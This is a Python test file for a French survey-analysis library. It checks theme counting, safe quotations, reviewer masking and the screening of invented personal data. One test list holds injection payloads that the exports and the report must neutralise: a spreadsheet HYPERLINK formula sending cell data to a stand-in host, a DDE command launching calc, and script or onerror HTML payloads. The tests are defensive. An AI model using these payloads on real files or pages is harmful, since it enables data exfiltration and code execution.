"""Free texts: themes, safe quotations, the review sheet, and nothing that leads to a person."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
import yaml
from conftest import Projet
from petite_campagne import load_petite, questionnaire, write_fiche
from python_calamine import CalamineWorkbook

from qualepref_lib.analyses.controles import list_usagers
from qualepref_lib.analyses.verbatims import (
    list_citations,
    list_mots_sans_theme,
    measure_masques,
    measure_relecture,
    measure_sans_theme,
    measure_themes,
)
from qualepref_lib.campagne import Campagne, load_campagne
from qualepref_lib.coherence import list_coherence
from qualepref_lib.core.mesures import Taux
from qualepref_lib.core.refus import Probleme, Refus
from qualepref_lib.display.tableau import Tableau
from qualepref_lib.enquete.verbatims import verbatims_de
from qualepref_lib.referentiel.themes import check_expression, mots_de
from qualepref_lib.running.enquete.relecture import write_relecture

SECRETS = (
    "06 39 98 01 23", "5721-04417", "c.dunord", "Untel", "9957001234", "14/02/2003",
    "2 69 05 49 588 157", "12, rue de l'Exemple", "O1 99 OO 12 34", "AB-123-CD", "FR76 3000",
    "Camille", "monsieur.exemple",
)  # fmt: skip
"""What data/fabrique/enquete.yaml plants in the demonstration, all invented."""
THEMES = {
    "base_citations": "3",
    "citations": "2",
    "sensibles": ["malade*"],
    "themes": [
        {"code": "attente", "libelle": "Attente", "expressions": ["attent*", "file"],
         "exclusions": ["salle d'attente"]},
        {"code": "locaux", "libelle": "Locaux", "expressions": ["salle d'attente", "hall"]},
    ],
}  # fmt: skip


def _campagne(racine: Path, textes: list[str], themes: dict | None = None) -> Campagne:
    """A tiny campaign whose respondents wrote these texts."""
    questions = [
        {"code": "accueil", "libelle": "Accueil ?", "court": "Accueil", "genre": "echelle",
         "echelle": "satisfaction"},
        {"code": "libre", "libelle": "Un mot ?", "court": "Un mot", "genre": "texte"},
    ]  # fmt: skip
    write_fiche(racine / "referentiel" / "petite" / "themes.yaml", themes or THEMES)
    lignes = [
        {"reponse": f"R{i}", "date": "2021-03-10", "accueil": "très satisfait", "libre": texte}
        for i, texte in enumerate(textes, 1)
    ]
    return load_petite(
        racine, {"enquete": lignes}, questionnaire=questionnaire(questions, "accueil")
    )


def _relue(campagne: Campagne, lignes: list[dict[str, str]]) -> Campagne:
    """The same campaign once a person has reviewed its texts."""
    with (campagne.dossier / "verbatims_revus.csv").open("w", encoding="utf-8") as fichier:
        colonnes = ["reponse", "question", "genres", "texte", "decision", "a_masquer"]
        auteur = csv.DictWriter(fichier, colonnes, restval="", delimiter=";")
        auteur.writeheader()
        auteur.writerows(lignes)
    return load_campagne(campagne.dossier)


def test_chaque_theme_a_son_compte_et_sa_base(tmp_path: Path) -> None:
    """A theme counts the texts that hold one of its expressions, out of the texts read."""
    lue = _campagne(
        tmp_path,
        ["Trop d'attente", "La SALLE D'ATTENTE est froide", "L’attente dans le hall", "", "Merci"],
    )
    comptes = {li.code: li.mesure for li in measure_themes(lue).lignes}
    assert comptes == {"attente": Taux(2, 4), "locaux": Taux(2, 4)}
    assert [li.mesure for li in measure_sans_theme(lue).lignes] == [Taux(1, 4)]


def test_une_negation_n_est_pas_interpretee(tmp_path: Path) -> None:
    """The dictionary says what is spoken of, not what is thought of it."""
    lue = _campagne(tmp_path, ["Aucune attente, bravo"])
    assert [li.code for li in measure_themes(lue).lignes] == ["attente"]


def test_une_citation_est_sure_courte_et_ne_dépend_pas_du_hasard(tmp_path: Path) -> None:
    """Masks, numbers, names, intimate words, two themes: any of them forbids a quotation."""
    surs = ["la file est vraiment longue", "une attente interminable le matin", "encore une file !"]
    lue = _campagne(
        tmp_path,
        [
            *surs,
            "attente : rappelez-moi au 06 39 98 00 00",
            "une attente de 45 minutes",
            "la file gérée par Rose avec le sourire",
            "malade, une attente insupportable",
            "attente dans le hall trop longue",
            "file " * 60,
        ],
    )
    cites = [texte for _, texte in list_citations(lue).lignes]
    assert cites == ["« encore une file ! »", "« la file est vraiment longue »"]


def test_pas_de_citation_sous_la_base(tmp_path: Path) -> None:
    """Too few texts are too easily told apart: none is quoted."""
    assert not list_citations(_campagne(tmp_path, ["la file est longue"] * 2)).lignes
    assert list_citations(_campagne(tmp_path, ["la file est longue"] * 3)).lignes


def test_les_mots_qui_reviennent_sans_theme_sont_proposes(tmp_path: Path) -> None:
    """A word of three texts without theme may become one; a capitalised word may be a name."""
    textes = ["parking trop petit", "le parking", "un parking plus grand svp", "Rose Rose", "Rose",
              "merci Rose"]  # fmt: skip
    mots = dict(list_mots_sans_theme(_campagne(tmp_path, textes)).lignes)
    assert mots == {"parking": "3"}


@pytest.mark.parametrize(
    ("champ", "valeur"),
    [
        ("expressions", ["*"]),
        ("expressions", ["a*"]),
        ("expressions", [" "]),
        ("expressions", []),
        ("exclusions", ["!"]),
        ("canal", "inconnu"),
        ("engagements", ["9.99"]),
        ("code", "Éé"),
    ],
)
def test_un_theme_faux_est_refuse(tmp_path: Path, champ: str, valeur: object) -> None:
    """An expression that matches nothing or everything, or an unknown code, is refused."""
    theme = {"code": "x", "libelle": "X", "expressions": ["mot"]} | {champ: valeur}
    with pytest.raises(Refus) as refus:
        _campagne(tmp_path, ["texte"], {"themes": [theme]})
    assert "themes.yaml" in str(refus.value) or "(thème x)" in str(refus.value)


def test_un_theme_est_une_entree_de_plus(projet: Projet) -> None:
    """One entry of themes.yaml is one more line of the table."""
    chemin = projet.data / "referentiel" / "demonstration" / "themes.yaml"
    ajout = '  - code: "simplicite"\n    libelle: "Simplicité"\n    expressions: ["demarche*"]\n'
    chemin.write_text(chemin.read_text("utf-8") + ajout, encoding="utf-8")
    bilan = measure_themes(load_campagne(projet.campagne))
    assert bilan.ligne("simplicite").mesure.favorables >= 3


def test_les_mots_sont_lus_sans_accent_ni_marque() -> None:
    """The mark of a mask is not a word of the text."""
    assert mots_de("Appelez [téléphone] à l’Œuvre") == "appelez a l oeuvre"
    check_expression("mot*")


def test_rien_de_ce_qui_est_plante_ne_sort(tmp_path: Path) -> None:
    """Nothing planted in the demonstration is in a text, a table, or the review sheet."""
    lue = load_campagne("moselle_2022")
    bruts = " ".join(lue.tables["enquete"].cadre["suggestions"].dropna())
    assert all(secret in bruts for secret in SECRETS)
    sorties = [
        json.dumps(Tableau(f(lue)).bloc().model_dump(), ensure_ascii=False, default=str)
        for f in (list_citations, list_mots_sans_theme, measure_masques, measure_themes)
    ]
    sorties += [v.texte for v in verbatims_de(lue)]
    for extension in ("csv", "xlsx", "ods"):
        ecrite = write_relecture(lue, tmp_path, extension)
        assert ecrite is not None and ecrite.masques >= 12
        sorties.append(_lire(ecrite.chemin))
    for secret in SECRETS:
        assert not [s for s in sorties if secret.lower() in s.lower()], secret


def _lire(chemin: Path) -> str:
    if chemin.suffix == ".csv":
        return chemin.read_text("utf-8-sig")
    classeur = CalamineWorkbook.from_path(str(chemin))
    return "\n".join(str(classeur.get_sheet_by_name(n).to_python()) for n in classeur.sheet_names)


def test_le_rapport_execute_ne_montre_rien(rapport_frais: Path) -> None:
    """Neither the report, nor an executed notebook, nor a JSON beside it holds what was planted."""
    for fichier in [f for f in rapport_frais.rglob("*") if f.is_file()]:
        texte = fichier.read_text("utf-8", errors="replace")
        assert not [s for s in SECRETS if s in texte and s != "Camille"], fichier.name


def test_une_personne_peut_masquer_davantage(tmp_path: Path) -> None:
    """Words given by the reviewer are masked, whatever was decided; without words, all of it."""
    lue = _campagne(tmp_path, ["Rose est gentille, la file avance", "texte entier", "à citer"])
    relue = _relue(
        lue,
        [
            {"reponse": "R1", "question": "libre", "a_masquer": "rose | gentille"},
            {"reponse": "R2", "question": "libre", "decision": "masquer davantage"},
            {"reponse": "R3", "question": "libre", "decision": "garder"},
        ],
    )
    marque = "[masqué à la relecture]"
    assert [v.texte for v in verbatims_de(relue)] == [
        f"{marque} est {marque}, la file avance", marque, "à citer",
    ]  # fmt: skip
    assert measure_relecture(relue).ligne("relus").mesure == Taux(2, 3)


def test_une_personne_ne_peut_pas_demasquer(tmp_path: Path) -> None:
    """Whatever is written in the sheet's text, the text comes from the survey, masked."""
    lue = _campagne(tmp_path, ["Mon numéro : 06 39 98 00 00"])
    relue = _relue(lue, [{"reponse": "R1", "question": "libre", "decision": "garder",
                          "texte": "Mon numéro : 06 39 98 00 00"}])  # fmt: skip
    assert [v.texte for v in verbatims_de(relue)] == ["Mon numéro : [téléphone]"]


def test_exclure_interdit_de_citer_sans_retirer_du_compte(tmp_path: Path) -> None:
    """A text that is not to be quoted still speaks of its theme."""
    textes = ["la file est vraiment longue", "une file sans fin ici", "file, file et encore file"]
    lue = _campagne(tmp_path, textes)
    relue = _relue(lue, [{"reponse": "R1", "question": "libre", "decision": "ne pas citer"}])
    assert measure_themes(relue).ligne("attente").mesure == Taux(3, 3)
    assert textes[0] not in str(list_citations(relue).lignes)


def test_une_relecture_sans_reponse_est_refusee(tmp_path: Path) -> None:
    """A decision on an answer that the survey does not hold would mask nothing: it is refused."""
    lue = _campagne(tmp_path, ["texte"])
    with pytest.raises(Refus, match="R9"):
        _relue(lue, [{"reponse": "R9", "question": "libre", "decision": "masquer davantage"}])


@pytest.mark.parametrize("extension", ["csv", "xlsx", "ods"])
def test_refaire_la_feuille_garde_ce_qui_est_decide(tmp_path: Path, extension: str) -> None:
    """The sheet is read back, and made again with its decisions; the one before is kept."""
    lue = _campagne(tmp_path, ["Rose est là", "=1+1 dit le texte", "-2"])
    decisions = [{"reponse": "R1", "a_masquer": "Rose"}, {"reponse": "R2", "decision": "exclure"}]
    relue = _relue(lue, [{"question": "libre"} | decision for decision in decisions])
    ecrite = write_relecture(relue, relue.dossier, extension)
    assert ecrite is not None and ecrite.avant is not None and ecrite.avant.exists()
    encore = load_campagne(relue.dossier)
    assert verbatims_de(encore) == verbatims_de(relue)
    assert [p.name for p in relue.dossier.glob("verbatims_revus.*")] != []
    assert not list(relue.dossier.glob(".*chantier*"))


HOSTILES = [
    '=HYPERLINK("http://x.example/?d="&A1;"clic")', "+1+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3",
    "<script>alert(1)</script> file", "<img src=x onerror=alert(1)>", "a\u202eb file\u0007",
    "]]><x>&amp;", "{{ 7*7 }}", "| a | b |", "**gras** _file_",
]  # fmt: skip


@pytest.mark.parametrize("extension", ["csv", "xlsx", "ods"])
def test_un_texte_hostile_est_un_texte_dans_la_feuille(tmp_path: Path, extension: str) -> None:
    """No cell of the sheet is a formula, and no control character is left."""
    ecrite = write_relecture(_campagne(tmp_path, HOSTILES), tmp_path, extension)
    assert ecrite is not None
    if extension == "csv":
        lignes = list(csv.reader(io.StringIO(_lire(ecrite.chemin)), delimiter=";"))
        assert not [c for ligne in lignes for c in ligne if c.startswith(("=", "+", "-", "@"))]
    else:
        import zipfile

        with zipfile.ZipFile(ecrite.chemin) as paquet:
            corps = b"".join(paquet.read(n) for n in paquet.namelist() if n.endswith(".xml"))
        assert b"<f>" not in corps and b"table:formula" not in corps
        assert "\u202e" not in corps.decode("utf-8", "replace")


def test_un_texte_hostile_est_un_texte_dans_le_rapport(tmp_path: Path) -> None:
    """What crosses the boundary is text: it is escaped once, and holds no control character."""
    theme = {"code": "x", "libelle": "X", "expressions": ["file", "gras", "alert"]}
    themes = THEMES | {"themes": [theme]}
    lue = _campagne(tmp_path, [t.replace("1", "") for t in HOSTILES], themes)
    tableau = Tableau(list_citations(lue))
    html = tableau._repr_mimebundle_()["text/html"]
    assert "<script>" not in html and "onerror=" not in html.replace("&lt;img src=x onerror=", "")
    assert "\u202e" not in html


def test_la_liste_locale_masque_partout(tmp_path: Path) -> None:
    """Names of the campaign's own list are masked in the survey and in users' observations."""
    lue = _campagne(tmp_path, ["Rose est là"])
    (lue.dossier / "noms_a_masquer.txt").write_bytes("Rosé\r\n".encode("cp1252"))
    assert [v.texte for v in verbatims_de(load_campagne(lue.dossier))] == ["[nom] est là"]


def test_les_observations_des_usagers_sont_depistees(projet: Projet) -> None:
    """What users told the committee, and what was answered, is screened like the survey."""
    chemin = projet.campagne / "usagers.csv"
    with chemin.open("a", encoding="utf-8") as fichier:
        fichier.write("U99;2022-01-20;courriel;Rappelez Mme DUNORD au 06 39 98 00 00;;;1.03\n")
    lue = load_campagne(projet.campagne)
    assert "U99 Rappelez Mme [nom] au [téléphone]" in str(list_usagers(lue).lignes)
    assert "Mme [nom] au [téléphone]" in str(list_coherence(lue).lignes)
    assert "DUNORD" not in str((list_usagers(lue).lignes, list_coherence(lue).lignes))


def test_un_refus_ne_cite_pas_de_donnee_personnelle(tmp_path: Path) -> None:
    """A cell that slipped into a wrong column is quoted without what leads to a person."""
    probleme = Probleme("enquete.csv", "« Mme DUNORD, 06 39 98 00 00 » n’est pas une réponse.")
    assert "DUNORD" not in str(probleme) and "06" not in probleme.constat
    assert "99 80" in Probleme("campagne.yaml", "« 06 39 99 80 00 » n’est pas…").constat


def test_un_decalage_de_colonnes_ne_revele_rien(projet: Projet) -> None:
    """A text typed where a modality is expected is refused without being shown."""
    chemin = projet.campagne / "enquete.csv"
    texte = chemin.read_text("utf-8").replace(";particulier;", ";appeler le 06 39 98 77 66;", 1)
    chemin.write_text(texte, encoding="utf-8")
    fait = projet.run("verifier", "moselle_2022")
    assert fait.returncode == 1 and "39 98" not in fait.stdout + fait.stderr
    assert "[téléphone]" in fait.stderr


def test_la_liste_des_noms_n_entre_pas_dans_git() -> None:
    """The local list of names, and the reviewed texts, are never committed."""
    racine = Path(__file__).parents[1]
    ignores = (racine / ".gitignore").read_text("utf-8").splitlines()
    assert {"noms_a_masquer.txt", "verbatims_revus.*"} <= set(ignores)


def test_la_commande_ecrit_la_feuille(projet: Projet) -> None:
    """`qualepref enquete relire` says where the sheet is, and how many texts hold a mask."""
    fait = projet.run("enquete", "relire", "moselle_2022")
    assert fait.returncode == 0, fait.stderr
    assert (projet.campagne / "verbatims_revus.xlsx").exists()
    assert "42 réponses libres, dont 12 avec un masque" in fait.stdout
    assert projet.run("verifier", "moselle_2022").returncode == 0
    shutil.rmtree(projet.campagne)


def test_le_dictionnaire_livre_est_lisible() -> None:
    """Every expression of the shipped dictionary is one that the reader accepts."""
    chemin = Path(__file__).parents[1] / "data" / "referentiel" / "demonstration" / "themes.yaml"
    contenu = yaml.safe_load(chemin.read_text("utf-8"))
    for theme in contenu["themes"]:
        for expression in theme["expressions"]:
            check_expression(expression)
